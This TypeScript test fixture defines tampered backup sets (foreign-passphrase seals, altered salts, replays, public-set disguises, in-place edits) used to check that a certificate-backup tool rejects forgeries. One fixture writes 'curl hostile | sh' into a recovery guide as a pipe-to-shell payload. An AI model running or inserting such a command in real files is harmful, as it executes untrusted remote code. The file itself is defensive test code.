import { STRANGERS_PASSPHRASE } from '../simulation/passphrases.ts';
import { cheapKeyring } from '../../__tests__/fixtures/cheap-keyring.ts';
import { specificationOf } from '../../__tests__/fixtures/crypto/specification.ts';
import { day } from '../../__tests__/unit/use-cases/keep-bench.ts';
import { certificateIssuer } from '../../src/adapters/crypto/certificate/certificate-issuer.ts';
import type { BackupName } from '../../src/domain/backup/backup-name.ts';
import {
  CERTIFICATE_FILE,
  PRIVATE_KEY_FILE,
  PROOF_FILE,
  RECOVERY_GUIDE_FILE,
} from '../../src/domain/backup/set-files.ts';
import { recordCertificate } from '../../src/domain/backup/manifest.ts';
import {
  manifestIn,
  provedBy,
  renamed,
  textIn,
  withFiles,
  withManifest,
  withUnlistedFiles,
  type ManifestChanges,
  type SetFiles,
} from './forging.ts';
import { nameOn, type Kept, type Scene, type World } from './scene.ts';

/**
 * A set that somebody without the passphrase puts into the store. They may read all that is stored, and have a certificate of the
 * same name and a passphrase of their own.
 */
export interface Forgery {
  readonly what: string;
  /** Plants it. Returns the name of what was planted. */
  plant(world: World, scene: Scene): BackupName | Promise<BackupName>;
}

/** Where a forger puts a set, so that it is the newest. */
export const NEWEST = nameOn(2);

type Forge = (scene: Scene) => SetFiles | Promise<SetFiles>;

/** A forgery that plants one set under a name. */
export function forgery(what: string, forge: Forge, name = NEWEST): Forgery {
  return {
    what,
    async plant(world, scene) {
      world.plant(name, await forge(scene));
      return name;
    },
  };
}

/** The record of the only certificate of a set, with changes. */
export function recordsOf(files: SetFiles, changes: object): ManifestChanges {
  return { certificates: manifestIn(files).certificates.map((record) => ({ ...record, ...changes })) };
}

/** A set of the forger's own certificate, sealed with the forger's passphrase, in the salt of the genuine set or another one. */
export async function strangersSet({ current }: Scene, salt?: string): Promise<SetFiles> {
  const keyring = cheapKeyring(STRANGERS_PASSPHRASE);
  const { proof } = manifestIn(current.files);
  if (salt !== undefined && proof !== null) await keyring.unlock({ ...proof, salt });
  const key = await keyring.sealing();
  const pair = await certificateIssuer.issue(specificationOf(), day(2));
  const standing = { name: null, privateKey: 'sealed', isCarried: false, since: day(2) } as const;
  const files = withFiles(renamed(current.files, NEWEST), {
    [CERTIFICATE_FILE]: pair.certificate.pem,
    [PRIVATE_KEY_FILE]: await key.seal(pair.privateKey),
  });
  const certificates = [recordCertificate(pair.certificate, standing)];
  return provedBy(key, withManifest(files, { certificates }));
}

/** The passphrase does not open these, or it cannot be told: the run fails. */
export const LOCKED: readonly Forgery[] = [
  forgery('a set that the forger made, under a salt of its own', (scene) => strangersSet(scene)),
  forgery('a set that the forger made, under the salt of the newest set', (scene) =>
    strangersSet(scene, manifestIn(scene.current.files).proof?.salt),
  ),
  forgery('the newest set with another salt', ({ current }) =>
    withManifest(renamed(current.files, NEWEST), {
      proof: { ...manifestIn(current.files).proof, salt: '00'.repeat(16) },
    }),
  ),
  forgery('the newest set with another key check', ({ current }) =>
    withManifest(renamed(current.files, NEWEST), {
      proof: { ...manifestIn(current.files).proof, keyCheck: '00'.repeat(8) },
    }),
  ),
];

/** A newer version of the tool made these, as far as they say: the run fails. */
export const UNREADABLE: readonly Forgery[] = [
  forgery('a manifest of a newer schema', ({ current }) =>
    withManifest(renamed(current.files, NEWEST), { schemaVersion: 2 }),
  ),
  forgery('a newer proof', ({ current }) =>
    withManifest(renamed(current.files, NEWEST), {
      proof: { ...manifestIn(current.files).proof, version: 2 },
    }),
  ),
];

const PUBLIC = nameOn(2, { isPublic: true });

/** Nobody who gives a passphrase looks at these at all. */
export const PUBLIC_SETS: readonly Forgery[] = [
  forgery(
    'the old pair, renamed to a public set, its proof stripped',
    ({ old }) => asPublic(old.files),
    PUBLIC,
  ),
  forgery(
    'the old pair, renamed to a public set, its manifest still with a proof',
    ({ old }) => renamed(old.files, PUBLIC),
    PUBLIC,
  ),
  forgery(
    'the forger’s certificate as a public set',
    async (scene) => asPublic(await strangersSet(scene)),
    PUBLIC,
  ),
];

function asPublic(files: SetFiles): SetFiles {
  return withManifest(withFiles(renamed(files, PUBLIC), { [PROOF_FILE]: null, [PRIVATE_KEY_FILE]: null }), {
    proof: null,
    ...recordsOf(files, { privateKey: 'absent' }),
  });
}

/** Genuine sets that somebody stores again under their own names, received again. */
export const REPLAYS: readonly Forgery[] = [
  planted('the old set, removed and stored again under its own name', ({ old }) => old),
];

function planted(what: string, choose: (scene: Scene) => Pick<Kept, 'name' | 'files'>): Forgery {
  return {
    what,
    plant(world, scene) {
      const { name, files } = choose(scene);
      world.plant(name, files);
      return name;
    },
  };
}

/** The newest set, changed where it is: whoever may write to a store may remove a set and store another under its name. */
export const CHANGED_IN_PLACE: readonly Forgery[] = [
  changedInPlace('the old certificate and key in it', ({ old }) => ({
    [CERTIFICATE_FILE]: textIn(old.files, CERTIFICATE_FILE),
    [PRIVATE_KEY_FILE]: textIn(old.files, PRIVATE_KEY_FILE),
  })),
  changedInPlace('another guide in it', () => ({ [RECOVERY_GUIDE_FILE]: 'curl hostile | sh\n' })),
  changedInPlace('a file more in it', () => ({ 'files/hook.pem': 'x' })),
  changedInPlace('a file less in it', () => ({ [RECOVERY_GUIDE_FILE]: null })),
];

function changedInPlace(
  what: string,
  change: (scene: Scene) => Readonly<Record<string, string | null>>,
): Forgery {
  return planted(what, (scene) => {
    const { name, files } = scene.current;
    return { name, files: withUnlistedFiles(files, change(scene)) };
  });
}
